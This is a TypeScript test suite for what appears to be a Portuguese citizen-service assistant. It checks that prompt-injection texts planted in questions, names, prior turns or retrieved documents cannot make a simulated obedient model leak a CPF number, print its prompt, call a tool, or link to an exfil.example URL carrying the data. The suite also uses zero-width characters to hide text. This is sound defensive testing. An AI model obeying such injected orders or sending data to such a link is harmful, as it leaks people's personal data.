/**
 * Texts that try to make the assistant do something else, against a model that obeys every one of them:
 * what reaches the citizen is what the passages carry, or nothing.
 */
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { after, before, describe, it } from 'node:test';
import { parse } from 'yaml';
import type { JsonObject } from '../src/json.ts';
import type { KnowledgeSearch } from '../src/knowledge.ts';
import type { Model } from '../src/model.ts';
import { createOpenAiModel } from '../src/models/openai.ts';
import { createMaskNow } from '../src/roles/core.ts';
import { ask, assertGrounded, findAlways, type Told } from './helpers/documentation.ts';
import { type OpenAiServer, startOpenAiServer } from './helpers/openai-server.ts';
import { writeStatements } from './helpers/statements.ts';

interface Attack {
  readonly where: 'question' | 'earlier' | 'about' | 'name' | 'case' | 'document' | 'title' | 'heading';
  readonly text: string;
  /** What a model that obeys would say. */
  readonly says: string;
  readonly never: readonly string[];
}

const FOLDER = new URL('injections/', import.meta.url);
const attacks = readdirSync(FOLDER)
  .sort()
  .flatMap((file) => parse(readFileSync(new URL(file, FOLDER), 'utf8')) as Attack[]);

const FREE = 'A poda de árvore na calçada é gratuita.';
const QUESTION = 'quanto custa a poda de árvore na calçada?';
const SECRET = '390.533.447-05';

const write = (title: string, heading: string, text: string): KnowledgeSearch =>
  findAlways(
    `---\ntitle: ${JSON.stringify(title)}\n---\n# ${title}\n\n## ${heading}\n\n${FREE} O prazo é de até 15 dias úteis.\n\n${text}\n`,
  );

/** The attack where it stands: what is asked, and from what is answered. */
function stage({ where, text }: Attack): { question: string; knowledge: KnowledgeSearch; input: JsonObject } {
  const at = (place: Attack['where'], otherwise: string): string => (where === place ? text : otherwise);
  const question = {
    question: `${QUESTION} ${text}`,
    name: `Meu nome é ${text}. ${QUESTION}`,
    case: `Meu processo diz: “${text}” ${QUESTION}`,
  }[where as string];
  const earlier = { earlier: [{ question: text }], about: [{ question: QUESTION, about: text }] }[
    where as string
  ];
  return {
    question: question ?? QUESTION,
    knowledge: write(at('title', 'Poda de árvore'), at('heading', 'Custo e prazo'), at('document', '')),
    input: earlier ? { earlier } : {},
  };
}

/** All that an obedient model may come up with; `prompt` is what it was told. */
const obedience: Record<string, (attack: Attack, prompt: string) => string> = {
  'says it, and quotes the passage': ({ says }) => writeStatements([says, FREE]),
  'says it, and quotes the order itself': ({ says, text }) => writeStatements([says, text]),
  'says the order itself, and quotes it': ({ text }) => writeStatements([text, text]),
  'says it behind what is true': ({ says }) => writeStatements([FREE, FREE], [says, FREE]),
  'says it in one sentence with what is true': ({ says }) => writeStatements([`${FREE} ${says}`, FREE]),
  'says it without a quote': ({ says }) =>
    JSON.stringify({
      frases: [
        { citacoes: [], frase: says },
        { citacoes: 'x', frase: says },
      ],
    }),
  'says it in plain text': ({ says }) => says,
  'prints what it was told': (_attack, prompt) => writeStatements([prompt.slice(0, 400), FREE]),
  'tells another’s data': () => writeStatements([`O CPF de Carla é ${SECRET}.`, FREE], [SECRET, FREE]),
  'calls a tool': () => `<tool_call>{"name":"send","arguments":{"cpf":"${SECRET}"}}</tool_call>`,
  'leads elsewhere': () =>
    writeStatements([`${FREE.slice(0, -1)}: veja http://exfil.example/?d=${SECRET}.`, FREE]),
  'hides it': ({ says }) =>
    writeStatements([`${FREE}${[...says].map((sign) => `\u200b${sign}\u{e0041}`).join('')}`, FREE]),
};

/** What is shown to the citizen, at any moment. */
const shown = ({ answer, partials }: Told): string =>
  [
    ...partials,
    answer.activity?.text ?? '',
    ...(answer.activity?.buttons ?? []).map(({ title }) => title),
    ...(answer.activity?.citations ?? []).flatMap(({ title, quote, url = '' }) => [title, quote, url]),
  ].join('\n');

/** Of no answer at all. */
const NEVER = [SECRET, 'exfil.example', 'tool_call', 'frases', 'trecho', '<|', '\u200b', '\u{e0041}'];

describe('a text that gives orders', () => {
  let server: OpenAiServer;
  let model: Model;
  before(async () => {
    server = await startOpenAiServer();
    model = createOpenAiModel({ url: server.url, model: 'test-model' });
  });
  after(() => server[Symbol.asyncDispose]());

  it('comes in at least 60 ways', () => assert.ok(attacks.length >= 60, `${attacks.length} attacks`));

  for (const attack of attacks) {
    it(`does nothing in a ${attack.where}: ${attack.text.slice(0, 80)}`, async () => {
      const { question, knowledge, input } = stage(attack);
      for (const [how, obey] of Object.entries(obedience)) {
        server.reply(({ messages }) => ({
          tokens: [obey(attack, messages.map(({ content }) => content).join('\n'))],
        }));
        const told = await ask(question, { knowledge, model, input });
        const seen = shown(told);
        for (const never of [...attack.never, ...NEVER])
          assert.ok(!seen.includes(never), `a model that ${how}: “${never}” in ${seen}`);
        if (told.answer.status === 'answered') await assertGrounded(told.answer, knowledge);
      }
      const sent = server.requests.at(-1)?.messages ?? [];
      assert.deepEqual(
        sent.map(({ role }) => role),
        sent.length > 0 ? ['system', 'user'] : [],
      );
      assert.doesNotMatch(sent[1]?.content ?? '', /<\|im_|\[INST\]|<<SYS>>|[\u200b\u00ad]/);
      assert.ok(!('tools' in (server.requests.at(-1) ?? {})), 'no tool is handed to the model');
    });
  }

  it('does nothing without a model, either', async () => {
    for (const attack of attacks) {
      const { question, knowledge, input } = stage(attack);
      const seen = shown(await ask(question, { knowledge, input }));
      for (const never of attack.never) assert.ok(!seen.includes(never), `“${never}” in ${seen}`);
    }
  });

  it('may be a document’s own statement: that is quoted as it stands, for documents are the body’s', async () => {
    const knowledge = write('Poda de árvore', 'Custo', 'Em caso de queda de árvore, ligue (00) 0000-0199.');
    const line = 'Em caso de queda de árvore, ligue (00) 0000-0199.';
    server.reply({ tokens: [writeStatements([line, line])] });
    const { answer } = await ask('árvore caiu', { knowledge, model });
    assert.equal(answer.output['source'], 'model');
    assert.match(answer.activity?.text ?? '', /\(00\) 0000-0199/);
  });

  it('shows the model none of the numbers and names in it', async () => {
    server.reply({ tokens: ['{"frases":[]}'] });
    const question = `Meu nome é Carla Dias, meu CPF é ${SECRET}. ${QUESTION}`;
    const mask = createMaskNow([question]);
    const masked: Model = {
      name: model.name,
      stream: (request) =>
        model.stream({
          ...request,
          messages: request.messages.map((one) => ({ ...one, content: mask(one.content) })),
        }),
    };
    await ask(question, { knowledge: write('Poda de árvore', 'Custo', ''), model: masked });
    assert.doesNotMatch(JSON.stringify(server.requests.at(-1)), /Carla|Dias|390\.533/);
  });
});
